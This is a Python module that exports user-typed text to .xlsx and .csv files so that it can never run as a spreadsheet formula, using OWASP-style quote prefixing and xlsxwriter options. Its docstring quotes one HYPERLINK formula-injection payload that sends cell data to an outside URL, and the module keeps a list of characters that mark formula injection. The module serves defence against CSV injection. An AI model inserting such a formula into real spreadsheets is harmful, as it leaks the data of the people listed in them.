"""The one way the product writes spreadsheets: whatever a person typed (a member's name, a union's name, a work unit)
reaches the file as text, never as something the spreadsheet program acts on.

- .xlsx through xlsxwriter: `new_workbook()` turns off xlsxwriter's guessing, which by default writes a string
  starting with "=" as a formula (`=HYPERLINK("http://…?x="&F4,"…")` would send neighbouring cells away when the file
  is opened) and a string looking like a URL as a hyperlink; a number-looking string (a card number, an ID) stays
  text too. Its sheets are named through `sheet_name()`, so a union called "A/B:C" can still export its tables.
- .csv: `csv_writer()` prefixes a text cell starting with = + - @, tab or carriage return with a single quote (the
  OWASP advice against CSV injection); numbers are written as numbers, so a negative figure is unchanged.

The column-wise writer (common.text_xlsx) writes inline strings only, which a spreadsheet never evaluates."""

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

import xlsxwriter

SHEET_NAME_MAX = 31  # Excel's limit
_SHEET_NAME_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_TEXT_STAYS_TEXT = {"strings_to_formulas": False, "strings_to_numbers": False, "strings_to_urls": False}


def sheet_name(text: str, *, taken: Iterable[str] = ()) -> str:
    """A valid worksheet name made from `text`: the characters Excel forbids (/ \\ ? * : [ ]) become "_", no quote at
    either end, at most 31 characters, never empty, and distinct (case-insensitively) from the names in `taken`."""
    name = _SHEET_NAME_FORBIDDEN.sub("_", text or "").strip().strip("'").strip()[:SHEET_NAME_MAX] or "Sheet"
    if name.lower() == "history":  # reserved by Excel
        name = f"{name}_"
    used = {t.lower() for t in taken}
    candidate, number = name, 1
    while candidate.lower() in used:
        number += 1
        suffix = f"({number})"
        candidate = name[: SHEET_NAME_MAX - len(suffix)] + suffix
    return candidate


class Workbook(xlsxwriter.Workbook):
    """xlsxwriter's workbook whose sheet names are always valid (see `sheet_name`)."""

    def add_worksheet(self, name: str | None = None, worksheet_class=None):
        if name is not None:
            name = sheet_name(name, taken=self.sheetnames)
        return super().add_worksheet(name, worksheet_class)


def new_workbook(target: Any, **options: Any) -> Workbook:
    """An in-memory xlsxwriter workbook writing to `target` in which text stays text; `options` add to (never
    loosen) xlsxwriter's options, e.g. constant_memory=True for a long roster."""
    return Workbook(target, {"in_memory": True, **options, **_TEXT_STAYS_TEXT})


def csv_cell(value: Any) -> Any:
    """A cell value safe to open in a spreadsheet: text that a spreadsheet would read as a formula gets a leading
    single quote; anything else (numbers included) is returned unchanged."""
    if isinstance(value, str) and value.startswith(CSV_FORMULA_STARTS):
        return "'" + value
    return value


class _NeutralisingWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(buffer: IO[str], **options: Any) -> _NeutralisingWriter:
    """`csv.writer(buffer, **options)` whose every text cell goes through `csv_cell`."""
    return _NeutralisingWriter(csv.writer(buffer, **options))
